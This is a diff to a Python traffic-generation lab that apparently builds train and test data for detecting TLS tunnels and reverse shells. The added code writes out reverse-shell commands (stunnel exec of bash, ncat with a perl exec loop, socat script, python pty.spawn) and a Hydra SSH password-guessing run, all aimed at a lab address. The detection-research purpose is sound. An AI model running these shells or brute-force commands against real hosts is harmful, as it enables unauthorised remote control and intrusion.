@@ -14,7 +14,7 @@ from pathlib import Path
 
 from lab import servers, tlsserve
 from lab.crowd import Activity
-from lab.network import SERVER, USER, Lab
+from lab.network import PASSWORD, SERVER, USER, Lab
 from lab.people import Person, program
 from lab.scenarios import SSH, TRUST
 from lab.tlsserve import DROPBEAR, INNER, INNER_WEB, PROXY, SSHD, bracketed, certificate
@@ -135,7 +135,7 @@ def ssh(kind: str, what: str, *options: str) -> Act:
     return act
 
 
-def stunnel_client(lab: Lab, address: str, target: str) -> int:
+def stunnel_client(lab: Lab, address: str) -> int:
     """Start stunnel on the client's side and return its local port."""
     port = 20_000 + int(address.replace(":", ".").rpartition(".")[2])
     config = lab.folder / f"client-{port}.conf"
@@ -149,24 +149,60 @@ def stunnel_client(lab: Lab, address: str, target: str) -> int:
 
 def ssh_stunnel(lab: Lab, address: str, seed: int) -> None:
     """OpenSSH through stunnel on both sides."""
-    port = stunnel_client(lab, address, "")
+    port = stunnel_client(lab, address)
     options = [*SSH, *TRUST, "-i", key(lab), "-o", "BatchMode=yes", "-p", str(port), f"{USER}@127.0.0.1"]
     program(lab, *options, "uptime; ls /")
 
 
 def dbclient_stunnel(lab: Lab, address: str, seed: int) -> None:
     """Dropbear's client through stunnel on both sides."""
-    port = stunnel_client(lab, address, "")
-    variables = {"DROPBEAR_PASSWORD": "correct horse 7"}
+    port = stunnel_client(lab, address)
+    variables = {"DROPBEAR_PASSWORD": PASSWORD}
     program(lab, "dbclient", "-y", "-y", "-p", str(port), f"{USER}@127.0.0.1", "ls /", variables=variables)
+
+
+def libssh2(lab: Lab, address: str, seed: int) -> None:
+    """Curl lists files by SFTP (libssh2) through stunnel."""
+    port = stunnel_client(lab, address)
+    program(lab, "curl", "-sk", "-u", f"{USER}:{PASSWORD}", f"sftp://127.0.0.1:{port}/etc/")
+
+
+def hydra(lab: Lab, address: str, seed: int) -> None:
+    """Hydra (libssh) guesses through stunnel."""
+    port = stunnel_client(lab, address)
+    words = lab.folder / f"words-{seed}"
+    words.write_text("123456\npassword\nqwerty\n")
+    line = ["hydra", "-I", "-q", "-t", "1", "-s", str(port), "-l", USER, "-P", str(words), "ssh://127.0.0.1"]
+    program(lab, *line, expected=[0, 255])
+
+
+def asyncssh(lab: Lab, address: str, seed: int) -> None:
+    """AsyncSSH runs a command through stunnel."""
+    port = stunnel_client(lab, address)
+    code = (
+        "import asyncio, asyncssh, sys\nasync def main():\n"
+        f" async with asyncssh.connect('127.0.0.1', int(sys.argv[1]), username={USER!r}, password={PASSWORD!r}, "
+        "known_hosts=None) as c:\n  await c.run('ls -l /usr')\nasyncio.run(main())\n"
+    )
+    program(lab, "/usr/bin/python3", "-c", code, str(port))
+
+
+def behind(*words: str) -> Act:
+    """Run a program against the local port of stunnel, which is `@` in its words."""
+
+    def act(lab: Lab, address: str, seed: int) -> None:
+        port = str(stunnel_client(lab, address))
+        program(lab, *[word.replace("@", port) for word in words], expected=[0, 1])
+
+    return act
 
 
 def paramiko_stunnel(lab: Lab, address: str, seed: int) -> None:
     """Paramiko through stunnel on both sides."""
-    port = stunnel_client(lab, address, "")
+    port = stunnel_client(lab, address)
     code = (
         "import paramiko, sys\nt = paramiko.Transport(('127.0.0.1', int(sys.argv[1])))\nt.start_client(timeout=20)\n"
-        f"t.auth_password({USER!r}, 'correct horse 7')\ns = t.open_session()\ns.exec_command('ls -l /')\n"
+        f"t.auth_password({USER!r}, {PASSWORD!r})\ns = t.open_session()\ns.exec_command('ls -l /')\n"
         "while s.recv(9999): pass\nt.close()\n"
     )
     program(lab, "/usr/bin/python3", "-c", code, str(port))
@@ -197,14 +233,14 @@ def nested(target: str, count: int = 3, pause: float = 0.2) -> Act:
 
 def curl_stunnel(lab: Lab, address: str, seed: int) -> None:
     """Curl through stunnel to an HTTPS server: TLS inside TLS without a CONNECT."""
-    port = stunnel_client(lab, address, "")
+    port = stunnel_client(lab, address)
     name = random.Random(seed).choice(list(tlsserve.PAGES)[:4])
     program(lab, "curl", "-sk", "-o", "/dev/null", f"https://127.0.0.1:{port}/{name}")
 
 
 def curl_stunnel_twice(lab: Lab, address: str, seed: int) -> None:
     """Curl through stunnel and a proxy: the CONNECT is inside as well."""
-    port = stunnel_client(lab, address, "")
+    port = stunnel_client(lab, address)
     target = f"https://{INNER}:{INNER_WEB}/code.js"
     program(lab, "curl", "-sk", "--proxy", f"http://127.0.0.1:{port}", "-o", "/dev/null", target)
 
@@ -232,6 +268,11 @@ def victim(kind: str, address: str) -> list[str]:
         "socat": ["socat", f"OPENSSL:{there},verify=0", "EXEC:/bin/bash -i,stderr"],
         "pty": ["socat", f"OPENSSL:{there},verify=0", "EXEC:bash -i,pty,stderr,setsid,sigint,sane"],
         "python": [*TALK, "shell", address, "443"],
+        "stunnel": ["sh", "-c", f"printf 'foreground=yes\\npid=\\nclient=yes\\nconnect={address}:443\\n"
+                    "exec=/bin/bash\\nexecArgs=bash -i\\n' | exec stunnel4 -fd 0"],
+        "perl": ["ncat", "--ssl", "-c", "perl -e 'while (<STDIN>) { print STDOUT `$_ 2>&1`; $| = 1 }'", address, "443"],
+        "script": ["socat", f"OPENSSL:{there},verify=0", "EXEC:script -qc sh /dev/null,stderr,setsid"],
+        "pythonpty": ["ncat", "--ssl", "-c", "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", address, "443"],
     }[kind]
 
 
@@ -258,7 +299,7 @@ def script_beacon(lab: Lab, address: str, seed: int) -> None:
     """A shell script that writes to one openssl s_client, sleeping between."""
     script = (
         "{ for i in 1 2 3 4 5 6 7 8; do printf '\\000\\000\\001\\000'; head -c 256 /dev/urandom; "
-        "sleep $((3 + RANDOM % 4)); done; } | openssl s_client -quiet -verify_quiet -connect "
+        "sleep $((3 + RANDOM % 4)); done; } | openssl s_client -quiet -no_ign_eof -verify_quiet -connect "
         f"{bracketed(address)}:443 >/dev/null"
     )
     program(lab, "bash", "-c", script, expected=[0, 1])
@@ -342,7 +383,7 @@ TUNNELS = [
         ("ssh-haproxy-aes", to(H, SSHD), ssh("openssl", "exec", "-c", "aes128-ctr", "-o", "KexAlgorithms=curve25519-sha256")),
         ("dropbear-stunnel", to(S, DROPBEAR), ssh("openssl", "exec")),
     ]),
-    *_many("test", "tls.tunnel.ssh", [
+    *_many("train", "tls.tunnel.ssh", [
         ("ssh-socat", to(C, SSHD), ssh("socat", "exec")),
         ("ssh-socat-type", to(C, SSHD), ssh("socat", "type", "-c", "aes256-gcm@openssh.com")),
         ("ssh-socat-fail", to(C, SSHD), ssh("socat", "fail")),
@@ -351,6 +392,33 @@ TUNNELS = [
         ("paramiko", to(S, SSHD), paramiko_stunnel),
         ("dropbear-socat", to(C, DROPBEAR), ssh("socat", "type")),
         ("dbclient", to(S, SSHD), dbclient_stunnel),
+    ]),
+    *_many("test", "tls.tunnel.ssh", [
+        ("curl-sftp", to(S, SSHD), libssh2),
+        ("hydra", to(H, SSHD), hydra),
+        ("asyncssh", to(H, SSHD, "ssl-max-ver TLSv1.2"), asyncssh),
+        ("nginx-exec", to(tlsserve.stream, SSHD), ssh("openssl", "exec", "-o", "KexAlgorithms=ecdh-sha2-nistp256")),
+        ("nginx-type", to(tlsserve.stream, SSHD), ssh("ncat", "type", "-o", "Ciphers=aes256-ctr")),
+        ("nginx-fail", to(tlsserve.stream, DROPBEAR), ssh("ncat", "fail")),
+        ("dbclient-nginx", to(tlsserve.stream, DROPBEAR), dbclient_stunnel),
+        ("ssh-12-copy", to(tlsserve.stream, SSHD), ssh("openssl12", "copy", "-o", "MACs=hmac-sha2-512", "-c", "aes128-ctr")),
+    ]),
+    *_many("test", "tls.tunnel.tls", [
+        ("wget-bare", to(H, INNER_WEB), behind("wget", "-q", "--no-check-certificate", "-O", "/dev/null",
+            "https://127.0.0.1:@/code.js")),
+        ("urllib-bare", to(tlsserve.stream, INNER_WEB), behind("/usr/bin/python3", "-c",
+            "import ssl, urllib.request as u\n"
+            "u.urlopen('https://127.0.0.1:@/style.css', context=ssl._create_unverified_context()).read()")),
+        ("urllib-proxy", to(S, PROXY), behind("/usr/bin/python3", "-c", "import ssl, urllib.request as u\n"
+            "h = u.HTTPSHandler(context=ssl._create_unverified_context())\n"
+            "o = u.build_opener(u.ProxyHandler({'https': 'http://127.0.0.1:@'}), h)\n"
+            "for p in ('', 'code.js'): o.open(f'https://127.0.0.1:9443/{p}').read()")),
+        ("openssl-proxy", to(tlsserve.stream, PROXY), behind("sh", "-c", "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | "
+            "openssl s_client -quiet -no_ign_eof -proxy 127.0.0.1:@ -connect 127.0.0.1:9443")),
+        ("curl-nginx", to(tlsserve.stream, PROXY), proxied(*AGENT, urls=3)),
+        ("curl-nginx-13", to(tlsserve.stream, PROXY), proxied("--tlsv1.3", "--http1.1", urls=1)),
+        ("gnutls-bare", to(tlsserve.stream, INNER_WEB), behind("sh", "-c", "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | "
+            "gnutls-cli --insecure -p @ 127.0.0.1")),
     ]),
     *_many("train", "tls.tunnel.tls", [
         ("curl-stunnel", to(S, PROXY), proxied()),
@@ -362,7 +430,7 @@ TUNNELS = [
         ("curl-inner-12", to(S, PROXY), proxied(*TWELVE)),
         ("stunnel-bare", to(S, INNER_WEB), curl_stunnel),
     ]),
-    *_many("test", "tls.tunnel.tls", [
+    *_many("train", "tls.tunnel.tls", [
         ("squid", lambda lab, address: tlsserve.squid(lab, address), proxied("--http1.1")),
         ("nghttpx", lambda lab, address: tlsserve.nghttpx(lab, address), proxied()),
         ("python-socat", to(C, PROXY), nested(f"{INNER}:{INNER_WEB}")),
@@ -381,6 +449,13 @@ SHELLS = [
         ("reverse-pty", nothing, reverse("raw", "pty", 4)),
     ]),
     *_many("test", "tls.reverse_shell", [
+        ("reverse-stunnel", nothing, reverse("ncat", "stunnel")),
+        ("reverse-openssl-socat", nothing, reverse("openssl", "socat", 4)),
+        ("reverse-perl", nothing, reverse("ncat", "perl", 6)),
+        ("reverse-script", nothing, reverse("raw", "script", 3)),
+        ("reverse-python-ncat", nothing, reverse("ncat", "pythonpty", 5)),
+    ]),
+    *_many("train", "tls.reverse_shell", [
         ("reverse-socat", nothing, reverse("socat", "socat")),
         ("reverse-socat-ncat", nothing, reverse("socat", "ncat", 4)),
         ("reverse-python", nothing, reverse("socat", "python")),
